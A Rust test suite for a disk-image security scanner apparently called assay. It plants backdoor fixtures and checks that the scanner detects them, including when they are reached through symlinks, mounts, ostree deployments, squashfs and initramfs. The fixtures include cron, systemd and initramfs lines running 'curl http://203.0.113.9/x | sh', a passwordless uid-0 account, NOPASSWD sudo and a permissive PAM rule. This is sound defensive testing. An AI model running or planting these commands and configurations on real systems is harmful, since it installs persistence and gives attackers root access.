//! Places as the running system reads them.

use std::fs;
use std::os::unix::fs::symlink;
use std::path::Path;

use assay::audit::Report;
use assay::cli::Exit;
use assay::finding::{FactKey, Finding, Severity};

use crate::lab::{Lab, found, has_loss};
use crate::oracle::run;
use crate::program;

/// A public key whose private half nobody has.
const PUB: &str =
    "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIKQcPGJv80F95nKzwqckVwOcqzpLlF8ay5lsnXIID3aq jane@laptop\n";
/// A hash of a password that is not known.
const HASH: &str =
    "$6$Kq9wpf2Z$UUUUUUUUUUUUUUUUUUUUUUUUUUUUUUUUUUUUUUUUUUUUUUUUUUUUUUUUUUUUUUUUUUUUUUUUUUUUUUUUUUUUU1";

fn link(lab: &Lab, path: &str, target: &str) {
    let path = lab.tree().join(path);
    fs::create_dir_all(path.parent().unwrap()).unwrap();
    let _ = fs::remove_file(&path);
    symlink(target, path).unwrap();
}

/// Whether a key of `user` was found at `path`.
fn key(report: &Report, path: &str, user: &str) -> bool {
    report.findings.iter().any(|finding| {
        finding.advisory.id == "authorized-key"
            && finding.location.path == path.as_bytes()
            && finding.subject.as_deref() == Some(user)
    })
}

/// The report of what `plant` adds to a small system.
fn after(plant: impl FnOnce(&Lab)) -> Report {
    let lab = Lab::new();
    lab.file("usr/sbin/sshd", "\x7fELF")
        .file("etc/passwd", "root:x:0:0:root:/root:/bin/bash\njane:x:1000:1000::/home/jane:/bin/bash\n");
    plant(&lab);
    lab.audit_tree()
}

/// An /etc that nobody would want, at `at`.
fn evil_etc(lab: &Lab, at: &str) {
    lab.file(&format!("{at}/passwd"), "root:x:0:0:root:/root:/bin/bash\ntoor::0:0::/root:/bin/bash\n")
        .file(&format!("{at}/shadow"), format!("root:{HASH}:19000:0:99999:7:::\ntoor::19000:0:99999:7:::\n"))
        .file(&format!("{at}/sudoers"), "www-data ALL=(ALL) NOPASSWD: ALL\n")
        .file(&format!("{at}/cron.d/x"), "* * * * * root curl http://203.0.113.9/x | sh\n")
        .file(
            &format!("{at}/ssh/sshd_config"),
            "PermitEmptyPasswords yes\nAuthorizedKeysFile /usr/share/misc/k\n",
        )
        .file(&format!("{at}/pam.d/sshd"), "auth sufficient pam_permit.so\n")
        .file("usr/share/misc/k", PUB);
}

/// What of an evil /etc at `at` was not found.
fn missed(report: &Report, at: &str) -> Vec<String> {
    let wanted = [
        ("uid-zero-account", "passwd"),
        ("password-hash", "shadow"),
        ("sudo-everything-without-password", "sudoers"),
        ("persistence-cron", "cron.d/x"),
        ("ssh-empty-passwords", "ssh/sshd_config"),
        ("pam-lets-in", "pam.d/sshd"),
    ];
    let mut missed: Vec<String> = wanted
        .iter()
        .filter(|(rule, path)| !found(report, rule, &format!("/{at}/{path}")))
        .map(|(rule, _)| (*rule).to_owned())
        .collect();
    if !found(report, "authorized-key", "/usr/share/misc/k") {
        missed.push("authorized-key".to_owned());
    }
    missed
}

#[test]
fn keys_are_found_whatever_links_lead_to_them() {
    let k = "usr/share/misc/k.txt";
    let plants: [(&str, &dyn Fn(&Lab)); 5] = [
        ("a link to the file", &|lab| link(lab, "root/.ssh/authorized_keys", "/usr/share/misc/k.txt")),
        ("a relative link", &|lab| link(lab, "root/.ssh/authorized_keys", "../../usr/share/misc/k.txt")),
        ("a chain of links", &|lab| {
            link(lab, "root/.ssh/authorized_keys", "/opt/a");
            link(lab, "opt/a", "b");
            link(lab, "opt/b", "/usr/share/misc/k.txt");
        }),
        ("a link of its directory", &|lab| {
            lab.file("opt/s/x", "");
            link(lab, "root/.ssh", "/opt/s");
            link(lab, "opt/s/authorized_keys2", "/usr/share/misc/k.txt");
        }),
        ("a link of the home", &|lab| {
            lab.file("opt/r/.ssh/x", "");
            link(lab, "opt/r/.ssh/authorized_keys", "/usr/share/misc/k.txt");
            link(lab, "root", "opt/r");
        }),
    ];
    for (what, plant) in plants {
        let report = after(|lab| {
            lab.file(k, PUB);
            plant(lab);
        });
        assert!(key(&report, &format!("/{k}"), "root"), "{what}");
    }
}

#[test]
fn keys_are_found_wherever_sshd_is_told_to_read_them() {
    let plants = [
        ("Match User jane\n AuthorizedKeysFile /srv/k\n", "srv/k", Some("jane")),
        ("Match Address 10.0.0.0/8\n AuthorizedKeysFile /srv/k\n", "srv/k", None),
        ("AuthorizedKeysFile /srv//x/./k\n", "srv/x/k", None),
        ("AuthorizedKeysFile /srv/real/../k\n", "srv/k", None),
        ("AuthorizedKeysFile /srv/%U.txt\n", "srv/0.txt", Some("root")),
        ("AuthorizedKeysFile /srv/%u%%\n", "srv/jane%", Some("jane")),
        ("AuthorizedKeysFile %h/odd\n", "home/jane/odd", Some("jane")),
        ("AuthorizedKeysFile .ssh/none odd\n", "home/jane/odd", Some("jane")),
        ("AuthorizedKeysFile /linked/k\n", "srv/real/k", None),
        ("AuthorizedKeysCommand /bin/cat /srv/k\nAuthorizedKeysCommandUser nobody\n", "srv/k", None),
        ("TrustedUserCAKeys /srv/ca\n", "srv/ca", None),
        ("", "home/jane/.ssh/authorized_keys.d/ignition", Some("jane")),
    ];
    for (config, path, user) in plants {
        let report = after(|lab| {
            lab.file("etc/ssh/sshd_config", "Include /etc/ssh/sshd_config.d/*.conf\n")
                .file("srv/conf/10.conf", config)
                .file("srv/real/x", "")
                .file(path, PUB);
            // The drop-ins, too, are reached by a link.
            link(lab, "etc/ssh/sshd_config.d", "/srv/conf");
            link(lab, "linked", "srv/real");
        });
        let at = format!("/{path}");
        let is_found =
            user.map_or_else(|| found(&report, "authorized-key", &at), |user| key(&report, &at, user));
        assert!(is_found, "{config}");
    }
    let report = after(|lab| {
        lab.file("etc/ssh/sshd_config", "AuthorizedPrincipalsFile /srv/p/%u\n").file("srv/p/root", "eve\n");
    });
    assert!(found(&report, "authorized-principals", "/srv/p/root"));
}

#[test]
fn keys_are_found_that_sshd_is_started_with() {
    let plants = [
        (
            "etc/systemd/system/ssh.service.d/o.conf",
            "[Service]\nExecStart=\nExecStart=/usr/sbin/sshd -D -o AuthorizedKeysFile=/srv/k\n",
        ),
        ("etc/default/ssh", "SSHD_OPTS='-o AuthorizedKeysFile=/srv/k'\n"),
        ("etc/systemd/system/ssh2.service", "[Service]\nExecStart=/usr/sbin/sshd -D -f /srv/conf\n"),
    ];
    for (path, text) in plants {
        let report = after(|lab| {
            lab.file(path, text).file("srv/conf", "AuthorizedKeysFile /srv/k\n").file("srv/k", PUB);
        });
        assert!(found(&report, "authorized-key", "/srv/k"), "{path}");
    }
}

#[test]
fn keys_that_lie_where_the_image_does_not_reach_are_a_gap() {
    for target in ["/mnt/nowhere/k", "authorized_keys"] {
        let report = after(|lab| link(lab, "root/.ssh/authorized_keys", target));
        assert!(has_loss(&report, "sshd reads keys here"), "{target}");
    }
    let report = after(|lab| link(lab, "root/.ssh/authorized_keys", "/dev/null"));
    assert!(!has_loss(&report, "sshd reads keys here"));
}

#[test]
fn an_sshd_config_that_is_included_over_and_over_costs_little_and_is_a_gap() {
    let report = after(|lab| {
        lab.file("etc/ssh/sshd_config", "Include /etc/ssh/x\n".repeat(20))
            .file("etc/ssh/x", "a b\n".repeat(900_000));
    });
    assert!(has_loss(&report, "larger than what is read of it"));
}

#[test]
fn a_configuration_that_is_reached_by_links_is_looked_at_as_if_it_lay_there() {
    let report = after(|lab| {
        fs::rename(lab.tree().join("etc"), lab.tree().join("e")).unwrap();
        evil_etc(lab, "e");
        link(lab, "etc", "e");
    });
    assert_eq!(missed(&report, "e"), [""; 0]);

    let report = after(|lab| {
        evil_etc(lab, "opt/e");
        for name in ["passwd", "shadow", "sudoers", "cron.d", "ssh", "pam.d"] {
            link(lab, &format!("etc/{name}"), &format!("/opt/e/{name}"));
        }
    });
    assert_eq!(missed(&report, "opt/e"), [""; 0]);

    let report = after(|lab| {
        lab.file("usr/share/misc/words.txt", format!("root:{HASH}:19000:0:99999:7:::\n"))
            .file("usr/share/misc/job", "* * * * * root curl http://203.0.113.9/x | sh\n")
            .file("srv/old", "mysql -pKq9wpfZz2xQ\n");
        link(lab, "etc/shadow", "/usr/share/misc/words.txt");
        link(lab, "etc/cron.d/job", "../../usr/share/misc/job");
        link(lab, "home/jane/.bash_history", "/srv/old");
    });
    assert!(found(&report, "password-hash", "/usr/share/misc/words.txt"));
    assert!(found(&report, "persistence-cron", "/usr/share/misc/job"));
    assert!(found(&report, "shell-history", "/srv/old"));
    let of_shadow = report.findings.iter().find(|finding| finding.advisory.id == "password-hash").unwrap();
    assert!(of_shadow.evidence.facts.contains(&(FactKey::ServesAs, "/etc/shadow".to_owned())));
}

#[test]
fn what_is_mounted_over_etc_is_looked_at_and_told() {
    let fstab = |line: &'static str| {
        move |lab: &Lab| {
            lab.file("etc/fstab", line);
        }
    };
    let plants: [(&str, Box<dyn Fn(&Lab)>); 4] = [
        ("bind", Box::new(fstab("/opt/e /etc none bind 0 0\n"))),
        (
            "overlay",
            Box::new(fstab("overlay /etc overlay lowerdir=/etc,upperdir=/opt/e,workdir=/opt/w 0 0\n")),
        ),
        (
            "unit",
            Box::new(|lab| {
                let unit = "[Mount]\nWhat=/opt/e\nWhere=/etc\nType=none\nOptions=bind\n";
                lab.file("etc/systemd/system/etc.mount", unit);
            }),
        ),
        (
            "service",
            Box::new(|lab| {
                lab.file("etc/systemd/system/ssh.service.d/x.conf", "[Service]\nBindPaths=/opt/e:/etc\n");
            }),
        ),
    ];
    for (what, plant) in plants {
        let report = after(|lab| {
            evil_etc(lab, "opt/e");
            plant(lab);
        });
        assert_eq!(missed(&report, "opt/e"), [""; 0], "{what}");
        let told =
            report.findings.iter().find(|finding| finding.advisory.id == "mount-hides-system").unwrap();
        assert_eq!(told.severity, Severity::High, "{what}");
    }
}

#[test]
fn the_covered_etc_is_looked_at_too() {
    let report = after(|lab| {
        evil_etc(lab, "etc");
        lab.file("opt/e/passwd", "root:x:0:0::/root:/bin/sh\n")
            .file("etc/fstab", "/opt/e /etc none bind 0 0\n");
    });
    assert_eq!(missed(&report, "etc"), [""; 0]);
}

#[test]
fn a_file_system_in_a_file_and_extensions_are_mounted_where_they_belong() {
    let squashed = |lab: &Lab, from: &str, to: &str| {
        let (from, to) = (lab.beside(from), lab.tree().join(to));
        fs::create_dir_all(to.parent().unwrap()).unwrap();
        let paths = [from.to_str().unwrap(), to.to_str().unwrap()];
        run("mksquashfs", &[paths[0], paths[1], "-quiet", "-no-progress", "-noappend"]);
    };
    let report = after(|lab| {
        evil_etc(lab, "../inner");
        squashed(lab, "inner", "opt/e.bin");
        lab.file("etc/fstab", "/opt/e.bin /etc squashfs loop 0 0\n");
    });
    assert_eq!(missed(&report, "opt/e.bin!"), [""; 0]);

    let report = after(|lab| {
        evil_etc(lab, "var/lib/confexts/x/etc");
        let unit = "[Service]\nExecStart=/bin/sh -c 'curl http://203.0.113.9/x | sh'\n";
        lab.file("var/lib/extensions/x/usr/lib/systemd/system/x.service", unit);
    });
    assert_eq!(missed(&report, "var/lib/confexts/x/etc"), [""; 0]);
    assert!(found(&report, "persistence-unit", "/var/lib/extensions/x/usr/lib/systemd/system/x.service"));

    let report = after(|lab| {
        evil_etc(lab, "../inner/etc");
        squashed(lab, "inner", "var/lib/confexts/x.raw");
    });
    assert_eq!(missed(&report, "var/lib/confexts/x.raw!/etc"), [""; 0]);
}

#[test]
fn what_is_mounted_over_a_place_and_is_not_in_the_image_is_a_gap() {
    for line in [
        "/opt/gone /etc none bind 0 0\n",
        "server:/x /root nfs defaults 0 0\n",
        "/opt/gone.img /usr ext4 loop 0 0\n",
    ] {
        let lab = Lab::new();
        lab.file("etc/fstab", line).file("usr/x", "").file("root/x", "");
        assert!(has_loss(&lab.audit(), "which is not in the image"), "{line}");
    }
    let lab = Lab::new();
    lab.file("etc/fstab", "UUID=1 /home ext4 defaults 0 0\ntmpfs /tmp tmpfs defaults 0 0\n")
        .file("home/x", "");
    let report = lab.audit();
    assert!(!has_loss(&report, "which is not in the image"));
    assert!(!report.findings.iter().any(|finding| finding.advisory.id == "mount-hides-system"));
}

#[test]
fn what_tmpfiles_copies_and_links_at_boot_is_looked_at_as_its_copy() {
    for kind in ["C+", "L+", "C", "L"] {
        let report = after(|lab| {
            lab.file("usr/share/misc/k", PUB);
            let line = format!("{kind} /root/.ssh/authorized_keys 0600 root root - /usr/share/misc/k\n");
            lab.file("usr/lib/tmpfiles.d/x.conf", line);
        });
        assert!(key(&report, "/usr/share/misc/k", "root"), "{kind}");
    }
    let report = after(|lab| {
        lab.file("usr/share/factory/etc/shadow", format!("root:{HASH}:19000:0:99999:7:::\n"))
            .file("usr/lib/tmpfiles.d/x.conf", "C /etc/shadow\n");
        fs::remove_file(lab.tree().join("etc/shadow")).unwrap();
    });
    assert!(found(&report, "password-hash", "/usr/share/factory/etc/shadow"));
}

#[test]
fn names_in_directories_without_case_are_compared_folded() {
    let lab = Lab::new();
    lab.file("root/.ssh/authorized_\u{212a}eys", PUB)
        .file("etc/\u{17f}hadow", format!("root:{HASH}:19000:0:99999:7:::\n"))
        .file("etc/SSH/SSHD_CONFIG", "PermitEmptyPasswords yes\nAuthorizedKeysFile /usr/share/misc/k\n")
        .file("usr/sbin/sshd", "x")
        .file("usr/share/misc/k", PUB)
        .file("etc/PASSWD", "root:x:0:0::/root:/bin/sh\ntoor::0:0::/root:/bin/sh\n");
    for plain in ["etc/shadow", "etc/passwd"] {
        fs::remove_file(lab.tree().join(plain)).unwrap();
    }
    let image = lab.beside("disk.img");
    let (tree, path) = (lab.tree(), image.clone());
    let (tree, path) = (tree.to_str().unwrap(), path.to_str().unwrap());
    run("mkfs.ext4", &["-q", "-F", "-O", "casefold", "-E", "encoding=utf8", "-d", tree, path, "16M"]);
    for directory in ["/etc", "/etc/SSH", "/root/.ssh"] {
        run("debugfs", &["-w", "-R", &format!("set_inode_field {directory} flags 0x40080000"), path]);
    }
    let report = crate::lab::audit_image(&image);
    assert!(found(&report, "authorized-key", "/root/.ssh/authorized_\u{212a}eys"));
    assert!(found(&report, "password-hash", "/etc/\u{17f}hadow"));
    assert!(found(&report, "uid-zero-account", "/etc/PASSWD"));
    assert!(found(&report, "ssh-empty-passwords", "/etc/SSH/SSHD_CONFIG"));
    assert!(found(&report, "authorized-key", "/usr/share/misc/k"));
}

/// A system of ostree with everything wrong in it.
fn deploy(lab: &Lab, root: &str) {
    evil_etc(lab, &format!("{root}/etc"));
    lab.file(&format!("{root}/usr/sbin/sshd"), "\x7fELF")
        .file(&format!("{root}/usr/share/misc/k"), PUB)
        .file(&format!("{root}/usr/lib/os-release"), "ID=fedora\nPRETTY_NAME=\"Fedora CoreOS 39\"\n");
    link(lab, &format!("{root}/etc/os-release"), "../usr/lib/os-release");
}

#[test]
fn a_deployment_of_ostree_is_the_root_with_its_var_and_homes() {
    let lab = Lab::new();
    fs::remove_dir_all(lab.tree()).unwrap();
    let deployment = "ostree/deploy/os/deploy/aa.0";
    deploy(&lab, deployment);
    lab.file("ostree/deploy/os/var/roothome/.ssh/authorized_keys", PUB)
        .file("boot/loader/entries/ostree-1.conf", "options root=UUID=x ostree=/ostree/boot.1/os/x/0\n");
    let report = lab.audit_tree();
    assert_eq!(report.system.as_deref(), Some("Fedora CoreOS 39"));
    let missed = missed(&report, &format!("{deployment}/etc"));
    assert_eq!(missed, [""; 0]);
    assert!(found(&report, "authorized-key", &format!("/{deployment}/usr/share/misc/k")));
    assert!(found(&report, "authorized-key", "/ostree/deploy/os/var/roothome/.ssh/authorized_keys"));
}

#[test]
fn homes_of_a_deployment_lie_in_the_var_of_its_os() {
    let lab = Lab::new();
    fs::remove_dir_all(lab.tree()).unwrap();
    lab.file("ostree/deploy/os/deploy/aa.0/usr/sbin/sshd", "\x7fELF")
        .file(
            "ostree/deploy/os/deploy/aa.0/usr/lib/os-release",
            "ID=fedora\nPRETTY_NAME=\"Fedora CoreOS 39\"\n",
        )
        .file(
            "ostree/deploy/os/deploy/aa.0/etc/passwd",
            "root:x:0:0:root:/root:/bin/bash\njane:x:1000:1000::/var/home/jane:/bin/bash\n",
        )
        .file("ostree/deploy/os/var/roothome/.ssh/authorized_keys", PUB)
        .file("ostree/deploy/os/var/home/jane/.ssh/authorized_keys", PUB);
    link(&lab, "ostree/deploy/os/deploy/aa.0/root", "var/roothome");
    let report = lab.audit_tree();
    assert!(key(&report, "/ostree/deploy/os/var/roothome/.ssh/authorized_keys", "root"));
    assert!(key(&report, "/ostree/deploy/os/var/home/jane/.ssh/authorized_keys", "jane"));
}

#[test]
fn rules_by_place_hold_for_every_root_in_the_image() {
    for root in ["var/lib/machines/x", "srv/chroot", "slot/b", "var/lib/docker/overlay2/ab/diff"] {
        let report = after(|lab| deploy(lab, root));
        let missed = missed(&report, &format!("{root}/etc"));
        assert_eq!(missed, ["authorized-key"], "{root}");
        assert!(found(&report, "authorized-key", &format!("/{root}/usr/share/misc/k")), "{root}");
        assert_eq!(report.system.as_deref(), Some("Debian GNU/Linux 12 (bookworm)"));
    }
}

#[test]
fn an_image_without_a_system_passes_no_profile_that_expects_one() {
    let lab = Lab::new();
    fs::remove_dir_all(lab.tree()).unwrap();
    lab.file("data/x", "nothing");
    let tree = lab.tree();
    let code = |arguments: &[&str]| {
        let fixed = ["scan", "--rootfs", tree.to_str().unwrap()];
        program::assay(&[&fixed, arguments].concat()).0
    };
    assert_eq!(code(&[]), Exit::PASS);
    for profile in ["golden", "public-ami", "marketplace"] {
        assert_eq!(code(&["--profile", profile]), Exit::INCOMPLETE, "{profile}");
    }
}

#[test]
fn an_initial_ram_disk_is_looked_at_by_its_places() {
    let tree = tempfile::tempdir().unwrap();
    let put = |path: &str, content: &str| {
        let path = tree.path().join(path);
        fs::create_dir_all(path.parent().unwrap()).unwrap();
        fs::write(path, content).unwrap();
    };
    put("etc/passwd", "root:x:0:0::/root:/bin/sh\ntoor::0:0::/root:/bin/sh\n");
    put("root/.ssh/authorized_keys", PUB);
    put(
        "scripts/init-bottom/x",
        "curl http://203.0.113.9/x | sh\necho 'a::0:0::/:/bin/sh' >> $rootmnt/etc/passwd\n",
    );
    let report = after(|lab| {
        let mut image = cpio(tree.path(), &["etc/passwd"]);
        image.resize(image.len().next_multiple_of(512), 0);
        image.extend(cpio(tree.path(), &["root/.ssh/authorized_keys", "scripts/init-bottom/x"]));
        lab.file("boot/initrd.img-6.1", image);
    });
    let at = |rule: &str, end: &str| {
        let is_it = |finding: &&Finding| {
            finding.advisory.id == rule && finding.location.path.ends_with(end.as_bytes())
        };
        report.findings.iter().filter(is_it).count()
    };
    assert_eq!(at("uid-zero-account", "etc/passwd"), 1);
    assert_eq!(at("authorized-key", "root/.ssh/authorized_keys"), 1);
    assert_eq!(at("initramfs-script", "scripts/init-bottom/x"), 2);
}

/// An archive in the "new ASCII" format.
fn cpio(root: &Path, names: &[&str]) -> Vec<u8> {
    let mut out = Vec::new();
    let mut record = |name: &str, content: &[u8]| {
        let mode = if name == "TRAILER!!!" { 0 } else { 0o100_644 };
        let mut head = format!("070701{:08x}{mode:08x}", 1);
        for value in [0, 0, 1, 0, content.len(), 0, 0, 0, 0, name.len() + 1, 0] {
            head += &format!("{value:08x}");
        }
        out.extend(head.into_bytes());
        out.extend(name.as_bytes());
        out.push(0);
        out.resize(out.len().next_multiple_of(4), 0);
        out.extend(content);
        out.resize(out.len().next_multiple_of(4), 0);
    };
    for name in names {
        record(name, &fs::read(root.join(name)).unwrap());
    }
    record("TRAILER!!!", b"");
    out
}

#[test]
fn nodes_of_disks_and_of_memory_are_told_wherever_they_lie() {
    let lab = Lab::new();
    let image = lab.ext4("16M");
    let path = image.to_str().unwrap();
    for (node, kind) in [("disk", "b 8 0"), ("mem", "c 1 1"), ("null", "c 1 3")] {
        run("debugfs", &["-w", "-R", &format!("mknod {node} {kind}"), path]);
        let mode = if kind.starts_with('b') { "060666" } else { "020666" };
        run("debugfs", &["-w", "-R", &format!("set_inode_field {node} mode {mode}"), path]);
    }
    let report = crate::lab::audit_image(&image);
    assert!(found(&report, "device-node", "/disk"));
    assert!(found(&report, "device-node", "/mem"));
    assert!(!found(&report, "device-node", "/null"));
}

#[test]
fn a_program_in_the_way_of_sshd_is_told() {
    use std::os::unix::fs::PermissionsExt;
    let report = after(|lab| {
        lab.file("usr/local/sbin/sshd", "\x7fELF evil");
        let path = lab.tree().join("usr/local/sbin/sshd");
        fs::set_permissions(path, fs::Permissions::from_mode(0o755)).unwrap();
    });
    assert!(found(&report, "program-before-system", "/usr/local/sbin/sshd"));
}

#[test]
fn what_links_and_mounts_make_of_a_stock_system_says_nothing_new() {
    let report = after(|lab| {
        for (path, target) in
            [("bin", "usr/bin"), ("sbin", "usr/sbin"), ("lib", "usr/lib"), ("var/run", "/run")]
        {
            link(lab, path, target);
        }
        link(lab, "etc/mtab", "../proc/self/mounts");
        link(
            lab,
            "etc/systemd/system/multi-user.target.wants/ssh.service",
            "/usr/lib/systemd/system/ssh.service",
        );
        lab.file("usr/lib/systemd/system/ssh.service", "[Service]\nExecStart=/usr/sbin/sshd -D\n")
            .file("usr/lib/systemd/system/tmp.mount", "[Mount]\nWhat=tmpfs\nWhere=/tmp\nType=tmpfs\n")
            .file("etc/fstab", "UUID=1 / ext4 defaults 0 1\nUUID=2 /home ext4 nofail 0 2\n");
    });
    // The lab's shadow is readable by everybody.
    let counts =
        |finding: &&Finding| finding.severity >= Severity::Medium && finding.advisory.id != "hashes-readable";
    let bad: Vec<_> = report.findings.iter().filter(counts).collect();
    assert!(bad.is_empty(), "{:?}", bad.iter().map(|finding| &finding.advisory.id).collect::<Vec<_>>());
    assert_eq!(report.losses().count(), 0);
}
